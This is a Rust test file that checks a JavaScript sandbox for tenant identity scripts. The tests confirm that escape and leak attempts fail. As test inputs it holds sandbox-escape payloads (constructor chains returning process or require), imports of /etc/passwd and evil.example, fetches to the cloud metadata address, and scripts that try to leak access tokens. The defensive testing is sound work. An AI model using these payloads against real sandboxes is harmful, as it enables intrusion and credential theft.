//! Scripts that look for a way out, and for what others have left.

use std::cell::RefCell;
use std::collections::BTreeMap;

use actions::{ActionError, CALLS_MAX, HttpAnswer, ScriptFault};
use serde_json::json;

use super::{ACCESS_TOKEN, ID_TOKEN, calling, pool, run, run_with};

#[tokio::test]
async fn a133_there_is_nothing_beside_the_language() {
    let pool = pool();
    for expression in [
        "process",
        "process.env",
        "require('fs')",
        "module",
        "exports",
        "global",
        "Buffer",
        "__dirname",
        "std",
        "os",
        "bjson",
        "scriptArgs",
        "print",
        "Deno",
        "Bun",
        "WebAssembly",
        "Worker",
        "XMLHttpRequest",
        "WebSocket",
        "importScripts('https://evil.example')",
        "setTimeout",
        "this.constructor.constructor('return process')()",
        "(() => {}).constructor('return require')()",
        "Reflect.construct(Function, ['return os'])()",
        "new Function('return std')()",
        "eval('process')",
        "request.constructor.constructor('return process.mainModule')()",
    ] {
        let script = calling(&format!("callback(null, {{ found: typeof ({expression}) }});"));
        let outcome = run(&pool, "t", &script).await;
        match outcome {
            Err(ActionError::Script(ScriptFault::Failed(message))) => {
                assert!(message.ends_with("is not defined"), "{expression}: {message}");
            }
            // A name of its own is no error to ask for; there is nothing behind it.
            Ok(profile) => assert_eq!(profile["found"], "undefined", "{expression}"),
            Err(other) => panic!("{expression}: {other:?}"),
        }
    }
    let script = "(async () => {}).constructor('return process')().then(callback, callback);";
    let outcome = run(&pool, "t", &calling(script)).await.unwrap_err();
    assert_eq!(outcome.to_string(), "the script failed: process is not defined");
    // Whatever a newer engine brings along shows here, and is looked at.
    let own = "const language = Object.getOwnPropertyNames(globalThis).filter((name) =>\
               /^[a-z]/.test(name)); callback(null, { names: language.sort() });";
    let names = run(&pool, "t", &calling(own)).await.unwrap()["names"].clone();
    let expected = json!([
        "atob",
        "btoa",
        "console",
        "decodeURI",
        "decodeURIComponent",
        "encodeURI",
        "encodeURIComponent",
        "escape",
        "eval",
        "fetch",
        "globalThis",
        "isFinite",
        "isNaN",
        "parseFloat",
        "parseInt",
        "performance",
        "queueMicrotask",
        "request",
        "undefined",
        "unescape",
    ]);
    assert_eq!(names, expected);
}

#[tokio::test]
async fn a133_nothing_is_imported() {
    let pool = pool();
    for module in
        ["fs", "node:fs", "std", "os", "/etc/passwd", "./worker.js", "https://evil.example/x.js"]
    {
        let script = calling(&format!(
            "import('{module}').then(() => callback(null, {{}}), (error) => callback(error));"
        ));
        let outcome = run(&pool, "t", &script).await.unwrap_err();
        assert!(matches!(outcome, ActionError::Script(ScriptFault::Failed(_))), "{outcome:?}");
    }
    let script = "import fs from 'fs'; function (t, c, cb) {}";
    let outcome = pool.check("t", script).await.unwrap_err();
    assert!(matches!(outcome, ActionError::Script(ScriptFault::Syntax(_))), "{outcome:?}");
}

#[tokio::test]
async fn a133_a_run_leaves_nothing_for_the_next() {
    let pool = pool();
    let script = calling(
        "const seen = [globalThis.left, ({}).left, request.left, Error.prepareStackTrace];\
         globalThis.left = accessToken; Object.prototype.left = accessToken;\
         request.left = accessToken; Error.prepareStackTrace = () => accessToken;\
         JSON.parse = () => ({ left: accessToken });\
         callback(null, { seen: seen.filter((it) => it !== undefined).length });",
    );
    for tenant in ["one", "one", "one", "other"] {
        // The polluted prototype shows in what the script makes of itself, so that it is refused.
        let outcome = run(&pool, tenant, &script).await;
        match outcome {
            Ok(profile) => assert_eq!(profile["seen"], 0),
            Err(other) => panic!("{other:?}"),
        }
    }
}

#[tokio::test]
async fn a133_requests_are_few_and_go_where_the_caller_lets_them() {
    let pool = pool();
    let asked = RefCell::new(Vec::new());
    let script = calling(
        "const asked = [];\
         for (let i = 0; i < 50; i++) {\
           try { asked.push(fetch('http://169.254.169.254/' + i).catch((error) => error.message)); }\
           catch {}\
         }\
         Promise.all(asked).then((told) => callback(null, { told }));",
    );
    let refuse = async |request: actions::HttpRequest| {
        asked.borrow_mut().push(request.url);
        Err("the address is not allowed".to_owned())
    };
    let profile = run_with(&pool, "t", &script, refuse).await.unwrap();
    assert_eq!(asked.borrow().len(), CALLS_MAX);
    let told = profile["told"].as_array().unwrap();
    let refused = told.iter().filter(|it| *it == "fetch failed: the address is not allowed");
    assert_eq!(refused.count(), CALLS_MAX);
    assert_eq!(told.last().unwrap(), "there are too many requests");

    let answer = async |_| {
        let body = "x".repeat(300 * 1024);
        Ok(HttpAnswer { status: 200, headers: BTreeMap::new(), body })
    };
    let script = calling("request.get('https://idp.example/', (error) => callback(error));");
    let outcome = run_with(&pool, "t", &script, answer).await.unwrap_err();
    assert!(outcome.to_string().contains("longer than"), "{outcome}");
}

/// What the operator reads of a failure holds no token, however it got there.
#[tokio::test]
async fn a133_messages_and_profiles_hold_no_token() {
    let pool = pool();
    for body in [
        "callback(new Error('bad token ' + accessToken));",
        "callback('bad token ' + context.id_token);",
        "throw new Error(JSON.stringify(context));",
        "Promise.reject(new Error(accessToken.repeat(3)));",
        "request.get('x', () => { throw new Error('a\\n' + accessToken); });",
        "(async () => { throw accessToken; })();",
    ] {
        let outcome = run(&pool, "t", &calling(body)).await.unwrap_err();
        let message = outcome.to_string();
        assert!(
            matches!(outcome, ActionError::Script(ScriptFault::Failed(_))),
            "{body}: {message}"
        );
        assert!(message.contains("[secret]"), "{body}: {message}");
        assert!(!message.contains(ACCESS_TOKEN) && !message.contains(ID_TOKEN), "{message}");
        assert!(!message.contains(char::is_control), "{message}");
    }
    for body in [
        "callback(null, { user_id: 'u', token: accessToken });",
        "callback(null, { user_id: 'u', deep: [{ x: 'Bearer ' + context.id_token }] });",
        "callback(null, { user_id: 'u', [accessToken]: 1 });",
    ] {
        let outcome = run(&pool, "t", &calling(body)).await.unwrap_err();
        assert!(matches!(outcome, ActionError::Script(ScriptFault::HoldsToken)), "{outcome:?}");
    }
}
